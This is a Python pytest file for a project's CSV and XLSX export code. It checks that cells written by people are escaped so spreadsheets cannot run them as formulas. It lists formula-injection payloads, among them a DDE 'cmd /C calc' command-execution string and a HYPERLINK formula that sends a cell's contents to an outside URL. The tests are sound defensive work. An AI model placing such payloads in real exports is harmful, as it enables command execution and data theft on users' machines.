"""T22: nothing that people wrote is ever run as a formula by the spreadsheet that opens an export, and reading the
export back gives what they wrote."""

import csv
import io

import pytest
from openpyxl import load_workbook

from banyan.exchange import cells
from banyan.exchange.tables.reading import read_table
from banyan.exchange.tables.writing import csv_pieces, xlsx_file

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
]
STARTS = tuple("=+-@＝＋－＠\t\r\n")


def csv_cells(rows):
    text = b"".join(csv_pieces(["title", "list"], rows)).decode("utf-8-sig")
    return [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row]


def xlsx_cells(rows):
    sheet = load_workbook(xlsx_file([("Needs", ["title", "list"], rows)])).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]


def is_live(text: str) -> bool:
    return text.lstrip(" \u00a0\u200b\ufeff").startswith(STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_starts_a_formula(payload):
    rows = [[payload, [payload, "b"]]]
    assert not [cell for cell in csv_cells(rows) if is_live(cell)]
    for cell in xlsx_cells(rows):
        assert cell.data_type == "s"
        assert not is_live(cell.value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_writing_reading_and_writing_again_is_stable(payload, tmp_path):
    for name, write in (
        ("a.csv", lambda rows: b"".join(csv_pieces(["title"], rows))),
        ("a.xlsx", lambda rows: xlsx_file([("Needs", ["title"], rows)]).read()),
    ):
        path = tmp_path / name
        value = payload
        for _round in range(3):
            path.write_bytes(write([[value]]))
            (found,) = (row["title"] for _number, row in read_table(path).rows())
            # XML and CSV readers take a carriage return for a line end; all else comes back as it was.
            assert found.replace("\r", "\n") == payload.replace("\r", "\n")
            value = found


def test_without_the_shield_the_payloads_are_live(monkeypatch):
    """The negative control: with the shield off, spreadsheets would run them."""
    monkeypatch.setattr("banyan.exchange.tables.writing.shielded", lambda text: text)
    rows = [[payload, []] for payload in PAYLOADS]
    assert len([cell for cell in csv_cells(rows) if is_live(cell)]) >= 15


def test_every_payload_is_known_to_the_shield():
    assert all(cells.shielded(payload) == f"'{payload}" for payload in PAYLOADS)
